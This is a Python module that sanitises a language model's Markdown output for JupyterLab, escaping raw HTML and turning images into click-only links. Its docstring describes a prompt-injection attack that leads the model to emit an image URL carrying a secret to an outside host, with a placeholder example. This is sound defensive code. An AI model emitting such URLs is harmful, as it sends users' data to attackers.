"""Markdown from the model that makes the browser fetch nothing by itself.

JupyterLab renders a ``text/markdown`` result with raw HTML and images. An answer holding
``![x](https://host/?q=<secret>)`` or ``<img src=...>`` would make the browser request
that URL the moment it is shown: a prompt injection in a file or a web page could use it
to send data anywhere. :func:`safe_markdown` rewrites the model's Markdown so that:

* raw HTML (any tag, comments, processing instructions) shows as text: its ``<`` is
  backslash-escaped;
* images (``![alt](url "t")``, ``![alt][ref]``, ``![alt][]``, ``![alt]``) become plain
  links ``[image: alt](url)`` that load nothing until clicked;
* fenced code blocks, indented code blocks and inline code spans are left untouched
  (they already render literally), and so is the rest of the Markdown.

The rewrite is built to be safe even where Markdown renderers disagree: it leaves text
untouched only where it is certain every CommonMark renderer sees code, and otherwise
escapes (at worst a stray backslash shows inside what a renderer took for code).
Specifically:

* a code span is kept only when it opens and closes on one line; a backtick that does
  not close on its line is escaped, so no renderer can pair it with one on another line;
* when the text has a GFM table, a code span holding an unescaped ``|`` is not kept
  (a table splits cells before it sees code spans);
* a link's destination and title are treated as text that might not be a link after all:
  ``<``, backticks and ``![`` in them are escaped (backslash escapes keep the URL as it
  was); an ``<angle-bracket destination>`` is percent-encoded instead;
* a fenced block is code only while its lines keep at least the indentation of its
  opening fence and it closes with a fence no less indented (and at most 3 spaces);
  anything else (a fence inside a list that the list's end may cut short) switches
  the rest of the text to escape-everything mode;
* an indented code block is kept only outside lists, after a blank line.
"""

from __future__ import annotations

import re
from urllib.parse import quote

__all__ = ["safe_markdown"]

_FENCE_OPEN = re.compile(r"^(?P<indent>[ \t]*)(?P<fence>`{3,}|~{3,})(?P<info>.*)$")
_LIST_MARKER = re.compile(r"^[ \t]*(?:[-+*]|\d{1,9}[.)])(?:[ \t]|$)")
_DELIMITER_ROW = re.compile(r"^[ \t>]*\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$")
# a reference definition: [label]: destination "title"
_DEFINITION = re.compile(
    r"^(?P<prefix>[ ]{0,3}(?:>[ ]?)*[ ]{0,3})\[(?P<label>(?:\\.|[^\\\[\]]){1,999})\]:"
    r"[ \t]*(?P<dest><(?:\\.|[^<>\\\n])*>|[^\s<][^\s]*)"
    r"(?:[ \t]+(?P<title>\"(?:\\.|[^\"\\])*\"|'(?:\\.|[^'\\])*'|\((?:\\.|[^()\\])*\)))?[ \t]*$"
)
# kept as they are: an autolink is a link in every CommonMark renderer; one holding
# "!", brackets or a backtick is escaped instead, in case some renderer does not see it
_SAFE_AUTOLINK = re.compile(
    r"<(?:(?:https?|ftps?|mailto):[A-Za-z0-9\-._~:/?#@$&'()*+,;=%]*"
    r"|[A-Za-z0-9.!#$%&'*+/=?^_{|}~-]+@[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?"
    r"(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?)*)>"
)
_URL_SAFE = "/:?#@!$&'*+,;=%~.-_"
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
"""What a backslash escapes (CommonMark: ASCII punctuation only)."""
# where a GFM renderer starts linking a bare URL (JupyterLab's does)
_BARE_URL = re.compile(r"(?i)(?:https?://|ftp://|www\.)")
# Escapes are character references, not backslashes: a renderer that links bare URLs
# (GFM "autolink literals", as JupyterLab's does) may swallow a backslash into the URL,
# leaving the "<" after it live; a reference has no "<" to leave behind.
_ENTITY = {"<": "&lt;", "`": "&#96;", "!": "&#33;", "[": "&#91;"}
# the same for characters the model escaped itself
_ESCAPED = {"<": "&lt;", "`": "&#96;", "!": "&#33;"}


def _indent(line: str) -> int:
    """Columns of leading whitespace (tabs to the next multiple of 4)."""
    col = 0
    for char in line:
        if char == " ":
            col += 1
        elif char == "\t":
            col += 4 - col % 4
        else:
            break
    return col


def _run(line: str, i: int) -> int:
    """The length of the run of backticks starting at ``i``."""
    j = i
    while j < len(line) and line[j] == "`":
        j += 1
    return j - i


def _normalize_label(label: str) -> str:
    return " ".join(label.split()).casefold()


def _encode_url(url: str) -> str:
    """A destination that needs no angle brackets and holds nothing Markdown or HTML
    could act on: spaces, ``<>``, backticks, brackets, parentheses, quotes encoded."""
    return quote(url, safe=_URL_SAFE)


class _Context:
    def __init__(self, definitions: dict[str, tuple[str, str | None]], tables: bool) -> None:
        self.definitions = definitions
        self.tables = tables
        self.poisoned = False


def safe_markdown(text: str) -> str:
    """``text`` with raw HTML escaped and images turned into links, code left as it is.

    The result renders the same Markdown (headings, lists, emphasis, links, tables,
    code) except that nothing in it loads by itself: no ``<img>``, no raw tag, no
    ``<iframe>``, ``<script>`` or ``<svg onload>`` reaches the browser.
    """
    if not text:
        return text
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    lines = text.split("\n")
    kinds = _classify(lines)
    definitions: dict[str, tuple[str, str | None]] = {}
    for line, kind in zip(lines, kinds, strict=True):
        if kind == "text" and (m := _DEFINITION.match(line)):
            dest = m.group("dest")
            if dest.startswith("<"):
                dest = dest[1:-1]
            title = m.group("title")
            definitions.setdefault(
                _normalize_label(m.group("label")), (dest, title[1:-1] if title else None)
            )
    tables = any(
        kind == "text" and "|" in line and "-" in line and _DELIMITER_ROW.match(line)
        for line, kind in zip(lines, kinds, strict=True)
    )
    ctx = _Context(definitions, tables)
    out = []
    for line, kind in zip(lines, kinds, strict=True):
        if kind == "code":
            out.append(line)
        else:
            ctx.poisoned = ctx.poisoned or kind == "poisoned"
            out.append(_text_line(line, ctx))
    return "\n".join(out)


def _classify(lines: list[str]) -> list[str]:
    """``code`` (left as it is), ``text`` (inline rewrite) or ``poisoned`` (escape all)
    for each line."""
    kinds: list[str] = []
    fence: tuple[int, str, int] | None = None  # indent, char, length
    in_list = False
    previous_blank = True
    indented_code = False
    poisoned = False
    for line in lines:
        if poisoned:
            kinds.append("poisoned")
            continue
        blank = not line.strip()
        indent = _indent(line)
        if fence is not None:
            f_indent, f_char, f_len = fence
            stripped = line.strip(" \t")
            is_fence_run = (
                len(stripped) >= f_len and stripped.rstrip(f_char) == "" and stripped[0] == f_char
            )
            if blank:
                kinds.append("code")
            elif is_fence_run and f_indent <= indent <= 3:
                kinds.append("code")  # the closing fence
                fence = None
            elif is_fence_run and indent <= f_indent + 3:
                # a renderer may close here or not, depending on a list we may not see
                poisoned = True
                kinds.append("poisoned")
            elif indent >= f_indent:
                kinds.append("code")
            else:
                # less indented than the fence: inside a list this ends the list (and the
                # fence), at the top level it is more code; we cannot tell, so escape all
                poisoned = True
                kinds.append("poisoned")
            previous_blank = False
            continue
        if indented_code:
            if blank or indent >= 4:
                kinds.append("code")
                previous_blank = blank
                continue
            indented_code = False
        if blank:
            kinds.append("text")
            # only an empty line counts (renderers differ on lines of spaces or tabs)
            previous_blank = line == ""
            continue
        m = _FENCE_OPEN.match(line)
        if m and indent <= 3 and not (m.group("fence")[0] == "`" and "`" in m.group("info")):
            fence = (indent, m.group("fence")[0], len(m.group("fence")))
            kinds.append("code")
            previous_blank = False
            continue
        if _LIST_MARKER.match(line):
            in_list = True
        elif in_list and previous_blank and indent < 2:
            in_list = False
        if line.startswith("    ") and previous_blank and not in_list:
            indented_code = True
            kinds.append("code")
            previous_blank = False
            continue
        kinds.append("text")
        previous_blank = False
    return kinds


def _text_line(line: str, ctx: _Context) -> str:
    m = _DEFINITION.match(line)
    if m is not None:
        # a reference definition: its destination and title are URL text
        dest = m.group("dest")
        if dest.startswith("<"):
            dest = _encode_url(dest[1:-1])
        rest = line[m.end("label") + 2 :]
        dest_at = rest.index(m.group("dest"))
        head = m.group("prefix") + "[" + _url_text(m.group("label")) + "]:"
        tail = rest[:dest_at] + dest + rest[dest_at + len(m.group("dest")) :]
        return head + _url_text(tail)
    return _inline(line, ctx)


def _url_text(text: str) -> str:
    """Text that is a URL or title if the renderer agrees, and plain text otherwise:
    ``<``, backticks and the ``!`` of ``![`` escaped (a backslash escape keeps a URL)."""
    out = []
    i = 0
    n = len(text)
    while i < n:
        c = text[i]
        if c == "\\" and text[i + 1 : i + 2] in _PUNCTUATION:
            out.append(_ESCAPED.get(text[i + 1], text[i : i + 2]))
            i += 2
            continue
        if c in "<`" or (c == "!" and text.startswith("[", i + 1)):
            out.append(_ENTITY[c])
        else:
            out.append(c)
        i += 1
    return "".join(out)


def _code_span_end(line: str, i: int, ctx: _Context) -> int | None:
    """Where the code span opening at ``i`` ends on this line, or None if it does not
    (or may not, for some renderer) close here."""
    if ctx.poisoned:
        return None
    run = _run(line, i)
    j = i + run
    n = len(line)
    while j < n:
        k = line.find("`", j)
        if k < 0:
            return None
        end = k
        while end < n and line[end] == "`":
            end += 1
        if end - k == run:
            content = line[i + run : k]
            if ctx.tables and re.search(r"(?<!\\)\|", content):
                return None
            return end
        j = end
    return None


def _label_end(line: str, start: int, ctx: _Context) -> int | None:
    """The index of the ``]`` that closes the ``[`` at ``start`` (nesting, escapes and
    code spans considered), or None."""
    depth = 0
    i = start
    n = len(line)
    while i < n:
        c = line[i]
        if c == "\\":
            i += 2
            continue
        if c == "`":
            end = _code_span_end(line, i, ctx)
            if end is not None:
                i = end
                continue
            i += _run(line, i)
            continue
        if c == "<" and not ctx.poisoned and (m := _SAFE_AUTOLINK.match(line, i)):
            i = m.end()
            continue
        if c == "[":
            depth += 1
        elif c == "]":
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return None


def _destination(line: str, i: int) -> tuple[str, int, bool]:
    """The link destination and title starting at ``i`` (just after ``](``), rewritten
    as URL text, where they end, and whether the text ends in something a renderer may
    take for the start of a bare URL (then what follows up to a space belongs to it)."""
    out = []
    n = len(line)
    while i < n and line[i] in " \t":
        out.append(line[i])
        i += 1
    if i < n and line[i] == "<":
        j = i + 1
        while j < n and line[j] not in "<>":
            j += 2 if line[j] == "\\" else 1
        if j < n and line[j] == ">":
            out.append(_encode_url(line[i + 1 : j]))
            i = j + 1
        else:
            return "".join(out), i, False  # not a destination: the caller escapes "<"
    else:
        start = i
        depth = 0
        while i < n and line[i] not in " \t":
            c = line[i]
            if c == "\\":
                i += 2
                continue
            if c == "(":
                depth += 1
            elif c == ")":
                if depth == 0:
                    break
                depth -= 1
            i += 1
        i = min(i, n)
        out.append(_url_text(line[start:i]))
    # an optional title
    j = i
    while j < n and line[j] in " \t":
        j += 1
    if j > i and j < n and line[j] in "\"'(":
        close = ")" if line[j] == "(" else line[j]
        k = j + 1
        while k < n and line[k] != close:
            k += 2 if line[k] == "\\" else 1
        k = min(k + 1, n)
        out.append(line[i:j] + _url_text(line[j:k]))
        return "".join(out), k, False
    text = "".join(out)
    return text, i, bool(_BARE_URL.search(text))


def _inline(line: str, ctx: _Context) -> str:
    out: list[str] = []
    i = 0
    n = len(line)
    url_run = False  # inside a bare URL that a renderer may turn into a link
    while i < n:
        c = line[i]
        if c in " \t":
            url_run = False
        elif not url_run and c in "hHfFwW" and _BARE_URL.match(line, i):
            url_run = True
        if c == "\\" and line[i + 1 : i + 2] in _PUNCTUATION:
            # an escape; a backslash before anything else is a plain character
            out.append(_ESCAPED.get(line[i + 1], line[i : i + 2]))
            i += 2
            continue
        if url_run:
            # a renderer that links bare URLs takes everything up to a space into the
            # URL, backticks included: no code span may start here
            if c in "<`" or (c == "!" and line.startswith("[", i + 1)):
                out.append(_ENTITY[c])
            else:
                out.append(c)
            i += 1
            continue
        if c == "`":
            end = _code_span_end(line, i, ctx)
            if end is not None:
                out.append(line[i:end])
                i = end
            else:
                run = _run(line, i)
                out.append(_ENTITY["`"] * run)
                i += run
            continue
        if c == "<":
            m = None if ctx.poisoned else _SAFE_AUTOLINK.match(line, i)
            if m is not None:
                out.append(m.group())
                i = m.end()
            else:
                out.append(_ENTITY["<"])
                i += 1
            continue
        if c == "!" and line.startswith("[", i + 1):
            text, i, url_run = _image(line, i, ctx)
            if out and out[-1] == "!" and text.startswith("["):
                out[-1] = _ENTITY["!"]  # "!![x](u)": the first "!" must not make an image
            out.append(text)
            continue
        if c == "]" and line.startswith("(", i + 1):
            dest, i, url_run = _destination(line, i + 2)
            out.append("](" + dest)
            continue
        out.append(c)
        i += 1
    return "".join(out)


def _image(line: str, i: int, ctx: _Context) -> tuple[str, int, bool]:
    """``![...`` at ``i`` rewritten as a link (or with its bracket escaped)."""
    close = _label_end(line, i + 1, ctx)
    if close is None:
        return "!" + _ENTITY["["], i + 2, False
    alt_raw = line[i + 2 : close]
    alt = _inline(alt_raw, ctx)
    after = close + 1
    if line.startswith("(", after):
        dest, end, url_run = _destination(line, after + 1)
        return f"[image: {alt}]({dest}", end, url_run
    ref = alt_raw
    end = after
    if line.startswith("[", after):
        label_close = line.find("]", after + 1)
        label = line[after + 1 : label_close] if label_close > 0 else None
        if label is not None and "[" not in label:
            ref = label or alt_raw
            end = label_close + 1
    resolved = ctx.definitions.get(_normalize_label(ref))
    if resolved is not None:
        url, title = resolved
        shown_title = f' "{_url_text(title).replace(chr(34), chr(92) + chr(34))}"' if title else ""
        return f"[image: {alt}]({_encode_url(url)}{shown_title})", end, False
    if end > after:  # [ref] or [] given: keep the reference (it may resolve elsewhere)
        return f"[image: {alt}][{_url_text(ref)}]", end, False
    return f"[image: {alt}]", end, False
